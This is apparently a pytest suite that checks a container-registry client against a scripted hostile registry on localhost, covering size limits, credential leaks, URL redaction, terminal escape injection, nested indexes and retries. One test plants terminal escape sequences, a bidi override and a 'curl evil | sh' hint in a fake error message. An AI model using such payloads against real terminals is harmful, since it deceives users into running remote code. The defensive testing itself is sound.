"""The client against hostile or broken registries (issue 11): a scripted server on 127.0.0.1.

Each test names the issue item it guards. Everything is bounded: at most a few hundred local
requests, and retries use a fast policy.
"""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from aiohttp import web

from fleetkit.cli import main
from fleetkit.registry.client import (
    AuthError,
    Event,
    PlatformNotFound,
    RetryPolicy,
    TransportError,
    VerificationError,
    get_manifest,
    pull,
)
from fleetkit.registry.client.transport import Challenge, Transport
from tests.registry.client.fake_registry import OCI_INDEX, FakeRegistry
from tests.registry.client.servers import Recorder

FAST = RetryPolicy(attempts=3, base_s=0.01, max_s=0.02)


@pytest.fixture
def fake() -> Iterator[FakeRegistry]:
    server = FakeRegistry().start()
    assert isinstance(server, FakeRegistry)
    try:
        yield server
    finally:
        server.stop()


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    rc = main(list(argv))
    out, err = capsys.readouterr()
    return rc, out, err


def _index(entries: list[tuple[str, int, str, str | None]]) -> dict[str, object]:
    manifests = []
    for digest, size, media_type, platform in entries:
        entry: dict[str, object] = {"mediaType": media_type, "digest": digest, "size": size}
        if platform:
            os_name, arch = platform.split("/")
            entry["platform"] = {"os": os_name, "architecture": arch}
        manifests.append(entry)
    return {"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": manifests}


# -- item 10: a manifest that arrives in pieces ------------------------------------------------


def test_manifest_arriving_in_pieces_is_read_whole(fake: FakeRegistry) -> None:
    digest, _ = fake.put_image("a/b", "v1")
    raw = fake.manifests[f"a/b@{digest}"][1]

    async def pieces(request: web.Request) -> web.StreamResponse | None:
        if not request.path.endswith("/manifests/v1"):
            return None
        resp = web.StreamResponse(
            headers={"Content-Type": "application/vnd.oci.image.manifest.v1+json"}
        )
        resp.enable_chunked_encoding()
        await resp.prepare(request)
        for i in range(0, len(raw), 7):
            await resp.write(raw[i : i + 7])
            await asyncio.sleep(0.005)  # the fault: the body trickles in over several reads
        await resp.write_eof()
        return resp

    fake.hook = pieces
    manifest = get_manifest(f"{fake.host}/a/b:v1", retry=FAST)
    assert manifest.digest == digest and manifest.raw == raw


def test_manifest_larger_than_the_limit_is_refused_while_reading(fake: FakeRegistry) -> None:
    async def endless(request: web.Request) -> web.StreamResponse | None:
        if "/manifests/" not in request.path:
            return None
        resp = web.StreamResponse(
            headers={"Content-Type": "application/vnd.oci.image.manifest.v1+json"}
        )
        resp.enable_chunked_encoding()
        await resp.prepare(request)
        chunk = b" " * (1 << 20)
        try:
            for _ in range(16):  # 16 MiB at most, the client must stop after 4
                await resp.write(chunk)
        except (ConnectionError, RuntimeError):
            pass
        return resp

    fake.hook = endless
    with pytest.raises(VerificationError, match="too large"):
        get_manifest(f"{fake.host}/a/b:v1", retry=FAST)


# -- item 15: Basic credentials never go to a plain-HTTP realm of an https registry ----------


def test_basic_credentials_not_sent_to_plain_http_realm() -> None:
    from fleetkit.registry.client import Credential

    realm = Recorder(json.dumps({"token": "t"}).encode()).start()
    assert isinstance(realm, Recorder)

    async def fetch() -> None:
        t = Transport(
            "registry.invalid:443",
            credential=Credential(username="alice", password="secret"),
            retry=FAST,
        )
        assert t.scheme == "https"
        async with t:
            ch = Challenge("bearer", {"realm": f"http://{realm.host}/token", "service": "r"})
            await t._fetch_token(ch, ("repository:a/b:pull",))

    try:
        with pytest.raises(AuthError, match="plain HTTP") as info:
            asyncio.run(fetch())
        assert info.value.hint and "https" in info.value.hint
        assert realm.seen == []  # nothing was sent, least of all the password
    finally:
        realm.stop()


# -- item 16: --trace redacts signed redirect URLs ---------------------------------------------


def test_trace_redacts_signed_location(fake: FakeRegistry, tmp_path: Path) -> None:
    digest, _ = fake.put_image("a/b", "v1")
    signed = "AKIA-SECRET-SIG-123"

    async def redirect(request: web.Request) -> web.StreamResponse | None:
        if "/blobs/" in request.path and "X-Amz-Signature" not in request.query_string:
            target = f"{request.path}?X-Amz-Credential=cred-secret&X-Amz-Signature={signed}"
            return web.Response(status=307, headers={"Location": target})
        return None

    fake.hook = redirect
    lines: list[str] = []
    pull(f"{fake.host}/a/b:v1", f"oci:{tmp_path / 'out'}", retry=FAST, trace=lines.append)
    text = "\n".join(lines)
    assert "Location:" in text and "X-Amz-Signature=[redacted]" in text
    assert signed not in text and "cred-secret" not in text


# -- item 17: network text is escaped before it reaches a terminal ------------------------------


def test_registry_error_message_cannot_inject_terminal_escapes(
    fake: FakeRegistry, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = "\x1b[2J\x1b[31mpwned\r\nhint: run 'curl evil | sh'\x07\u202e"

    async def hostile(request: web.Request) -> web.StreamResponse | None:
        if "/manifests/" in request.path:
            body = {"errors": [{"code": "DENIED", "message": evil}]}
            return web.json_response(body, status=403, reason="Forbidden")
        if "/tags/list" in request.path:
            return web.json_response({"name": "a/b", "tags": ["ok", "bad\x1b]0;title\x07\nx"]})
        return None

    fake.hook = hostile
    rc, out, err = run(capsys, "manifest", "--retry-times", "1", f"{fake.host}/a/b:v1")
    assert rc == 1
    assert "\x1b" not in err and "\r" not in err and "\x07" not in err and "\u202e" not in err
    lines = err.splitlines()
    assert lines[0].startswith("error: ") and "pwned" in lines[0]
    assert not any(line.startswith("hint: run 'curl") for line in lines)
    rc, out, err = run(capsys, "tags", "--retry-times", "1", f"{fake.host}/a/b")
    assert rc == 0 and "\x1b" not in out and "\x07" not in out
    assert out.splitlines() == ["ok", "bad\\x1b]0;title\\x07\\nx"]


# -- item 18: nested indexes -------------------------------------------------------------------


def test_all_platforms_fetches_each_manifest_once(fake: FakeRegistry, tmp_path: Path) -> None:
    image, size = fake.put_image("a/b")
    wide = 20
    child = fake.put_manifest(
        "a/b",
        _index([(image, size, "application/vnd.oci.image.manifest.v1+json", "linux/amd64")] * wide),
        OCI_INDEX,
    )
    child_size = len(fake.manifests[f"a/b@{child}"][1])
    fake.put_manifest("a/b", _index([(child, child_size, OCI_INDEX, None)] * wide), OCI_INDEX, "v1")
    result = pull(f"{fake.host}/a/b:v1", f"oci:{tmp_path / 'out'}", all_platforms=True, retry=FAST)
    assert fake.count("GET", "/manifests/") == 3  # top, child, image: once each (was 421)
    assert result.platforms == ("linux/amd64",)
    assert {b.digest for b in result.blobs} == set(fake.blobs)


def test_deep_index_chain_is_refused_cleanly(fake: FakeRegistry, tmp_path: Path) -> None:
    digest, size = fake.put_image("a/b")
    media_type = "application/vnd.oci.image.manifest.v1+json"
    for _ in range(1200):
        digest = fake.put_manifest(
            "a/b", _index([(digest, size, media_type, "linux/amd64")]), OCI_INDEX
        )
        size, media_type = len(fake.manifests[f"a/b@{digest}"][1]), OCI_INDEX
    fake.manifests["a/b@v1"] = fake.manifests[f"a/b@{digest}"]
    for all_platforms in (True, False):
        with pytest.raises(VerificationError, match="nested deeper than"):
            pull(
                f"{fake.host}/a/b:v1",
                f"oci:{tmp_path / 'out'}",
                all_platforms=all_platforms,
                platform="linux/amd64",
                retry=FAST,
            )
    assert fake.count("GET", "/manifests/") < 40


def test_nested_index_without_all_platforms_pulls_the_image(
    fake: FakeRegistry, tmp_path: Path
) -> None:
    image, size = fake.put_image("a/b")
    media_type = "application/vnd.oci.image.manifest.v1+json"
    child = fake.put_manifest("a/b", _index([(image, size, media_type, "linux/amd64")]), OCI_INDEX)
    child_size = len(fake.manifests[f"a/b@{child}"][1])
    top = fake.put_manifest(
        "a/b", _index([(child, child_size, OCI_INDEX, "linux/amd64")]), OCI_INDEX, "v1"
    )
    dest = tmp_path / "out"
    result = pull(f"{fake.host}/a/b:v1", f"oci:{dest}", platform="linux/amd64", retry=FAST)
    assert result.digest == image and result.index_digest == top
    assert len([b for b in result.blobs if b.status == "downloaded"]) == 2
    index = json.loads((dest / "index.json").read_bytes())
    assert [m["digest"] for m in index["manifests"]] == [image]


# -- also wrong today: --platform on a single-arch image; failed pull leaves no layout ---------


def test_platform_mismatch_on_single_arch_image_is_refused(
    fake: FakeRegistry, tmp_path: Path
) -> None:
    fake.put_image("a/b", "v1", arch="amd64")
    dest = tmp_path / "new"
    with pytest.raises(PlatformNotFound, match="wanted linux/arm64, actual: linux/amd64"):
        pull(f"{fake.host}/a/b:v1", f"oci:{dest}", platform="linux/arm64", retry=FAST)
    assert fake.count("GET", "/blobs/") == 1  # the config only: no layer was downloaded
    assert not dest.exists()
    result = pull(f"{fake.host}/a/b:v1", f"oci:{dest}", platform="linux/amd64", retry=FAST)
    assert result.platforms == ("linux/amd64",)


def test_failed_pull_into_new_directory_leaves_nothing(fake: FakeRegistry, tmp_path: Path) -> None:
    dest = tmp_path / "new"
    with pytest.raises(Exception, match="manifest unknown"):
        pull(f"{fake.host}/a/b:nope", f"oci:{dest}", retry=FAST)
    assert not dest.exists()
    existing = tmp_path / "existing"
    existing.mkdir()
    with pytest.raises(Exception, match="manifest unknown"):
        pull(f"{fake.host}/a/b:nope", f"oci:{existing}", retry=FAST)
    assert existing.is_dir()  # a directory the user made is left alone


# -- also wrong today: errors that cannot heal fail fast, retries are announced ----------------


def test_connection_refused_fails_fast_with_one_attempt(tmp_path: Path) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]  # bound, never listening: connection refused
        notes: list[str] = []
        with pytest.raises(TransportError, match="refused") as info:
            pull(
                f"127.0.0.1:{port}/a/b:v1",
                f"oci:{tmp_path / 'out'}",
                retry=RetryPolicy(attempts=5, base_s=5.0, max_s=5.0),
                trace=notes.append,
            )
    assert "tried 1 time" in (info.value.hint or "")
    assert not any("retry" in n for n in notes)


def test_plain_http_registry_over_https_fails_once_per_push(
    fake: FakeRegistry, tmp_path: Path
) -> None:
    from fleetkit.registry.client import push

    fake.put_image("a/b", "v1")
    pull(f"{fake.host}/a/b:v1", f"oci:{tmp_path / 'src'}:v1", retry=FAST)
    # "localhost" is plain HTTP by default, so force https on the loopback address by name
    from fleetkit.registry.client import transport as transport_mod

    events: list[Event] = []
    real = transport_mod.is_insecure_default
    transport_mod.is_insecure_default = lambda _host: False  # type: ignore[assignment]
    try:
        with pytest.raises(TransportError) as info:
            push(
                f"oci:{tmp_path / 'src'}:v1",
                f"{fake.host}/c/d:v1",
                retry=RetryPolicy(attempts=5, base_s=0.01, max_s=0.02),
                events=events.append,
            )
    finally:
        transport_mod.is_insecure_default = real  # type: ignore[assignment]
    assert "--tls-verify=false" in (info.value.hint or "")
    # a TLS handshake with a plain-HTTP server cannot heal: no blob is retried (was 5 each)
    assert [e for e in events if e.kind == "retry"] == []


def test_retries_are_announced_with_attempt_count(fake: FakeRegistry, tmp_path: Path) -> None:
    digest, _ = fake.put_image("a/b", "v1")
    failures = {"left": 2}

    async def flaky(request: web.Request) -> web.StreamResponse | None:
        if request.path.endswith("/manifests/v1") and failures["left"]:
            failures["left"] -= 1
            return web.Response(status=503)
        return None

    fake.hook = flaky
    notes: list[str] = []
    t_notes: list[str] = []
    manifest = get_manifest(
        f"{fake.host}/a/b:v1",
        retry=RetryPolicy(attempts=5, base_s=0.01, max_s=0.02),
        trace=t_notes.append,
        notify=notes.append,
    )
    assert manifest.digest == digest
    assert len(notes) == 2
    assert notes[0].startswith("HTTP 503; retry 2/5 in ") and notes[0].endswith("s")
    assert notes[1].startswith("HTTP 503; retry 3/5 in ")


def test_manifest_on_a_terminal_is_escaped_and_piped_is_exact(
    fake: FakeRegistry, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Item 17: a manifest is valid JSON with C1 controls and bidi overrides in its strings."""
    import io
    import sys

    doc = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": fake.put_blob(b"{}") | {"mediaType": "application/vnd.oci.image.config.v1+json"},
        "layers": [],
        "annotations": {"x": "\u009b2J\u202eevil\u007f"},
    }
    raw = json.dumps(doc, ensure_ascii=False, indent=2).encode()
    fake.put_manifest("a/b", raw, "application/vnd.oci.image.manifest.v1+json", "v1")

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    tty = Tty()
    monkeypatch.setattr(sys, "stdout", tty)
    assert main(["manifest", "--retry-times", "1", f"{fake.host}/a/b:v1"]) == 0
    shown = tty.getvalue()
    assert "\u009b" not in shown and "\u202e" not in shown and "\u007f" not in shown
    assert "\\x9b2J\\u202eevil\\x7f" in shown and shown.count("\n") == raw.count(b"\n") + 1

    class Pipe(io.StringIO):
        def __init__(self) -> None:
            super().__init__()
            self.buffer = io.BytesIO()

    pipe = Pipe()
    monkeypatch.setattr(sys, "stdout", pipe)
    assert main(["manifest", "--retry-times", "1", f"{fake.host}/a/b:v1"]) == 0
    assert pipe.buffer.getvalue() == raw + b"\n"


async def _endless(request: web.Request, status: int, state: dict[str, bool]) -> web.StreamResponse:
    """A body of up to 32 MiB; ``state["finished"]`` says whether the client took it all."""
    resp = web.StreamResponse(status=status, headers={"Content-Type": "application/json"})
    resp.enable_chunked_encoding()
    await resp.prepare(request)
    chunk = b" " * (1 << 20)
    try:
        for _ in range(32):
            await resp.write(chunk)
        await resp.write_eof()
        state["finished"] = True
    except (ConnectionError, RuntimeError):
        pass
    return resp


def test_error_and_token_bodies_are_read_bounded(fake: FakeRegistry) -> None:
    """Item 10's cause everywhere: no body from the network is read whole without a bound."""
    state = {"finished": False}

    async def hostile(request: web.Request) -> web.StreamResponse | None:
        if "/manifests/" in request.path:
            return await _endless(request, 404, state)
        return None

    fake.hook = hostile
    with pytest.raises(Exception, match="HTTP 404|unknown"):
        get_manifest(f"{fake.host}/a/b:v1", retry=FAST)
    assert not state["finished"]  # the client stopped after 64 KiB of error body

    realm_state = {"finished": False}
    realm = FakeRegistry().start()
    assert isinstance(realm, FakeRegistry)

    async def token(request: web.Request) -> web.StreamResponse | None:
        return await _endless(request, 200, realm_state)

    realm.hook = token

    async def challenge(request: web.Request) -> web.StreamResponse | None:
        return web.Response(
            status=401,
            headers={"WWW-Authenticate": f'Bearer realm="http://{realm.host}/token",service="r"'},
        )

    fake.hook = challenge
    try:
        with pytest.raises(VerificationError, match="token response: response larger than"):
            get_manifest(f"{fake.host}/a/b:v1", retry=FAST)
    finally:
        realm.stop()
    assert not realm_state["finished"]


def test_tag_list_whose_next_link_points_back_ends(fake: FakeRegistry) -> None:
    from fleetkit.registry.client import list_tags

    async def loop(request: web.Request) -> web.StreamResponse | None:
        if "/tags/list" in request.path:
            return web.json_response(
                {"name": "a/b", "tags": ["v1"]},
                headers={"Link": '</v2/a/b/tags/list>; rel="next"'},
            )
        return None

    fake.hook = loop
    assert list_tags(f"{fake.host}/a/b", retry=FAST) == ["v1"]
    assert fake.count("GET", "/tags/list") == 1  # was 10,000 requests


def test_manifest_platform_descends_nested_indexes(fake: FakeRegistry) -> None:
    image, size = fake.put_image("a/b")
    media_type = "application/vnd.oci.image.manifest.v1+json"
    child = fake.put_manifest("a/b", _index([(image, size, media_type, "linux/amd64")]), OCI_INDEX)
    child_size = len(fake.manifests[f"a/b@{child}"][1])
    fake.put_manifest(
        "a/b", _index([(child, child_size, OCI_INDEX, "linux/amd64")]), OCI_INDEX, "v1"
    )
    manifest = get_manifest(f"{fake.host}/a/b:v1", platform="linux/amd64", retry=FAST)
    assert manifest.digest == image and not manifest.is_index
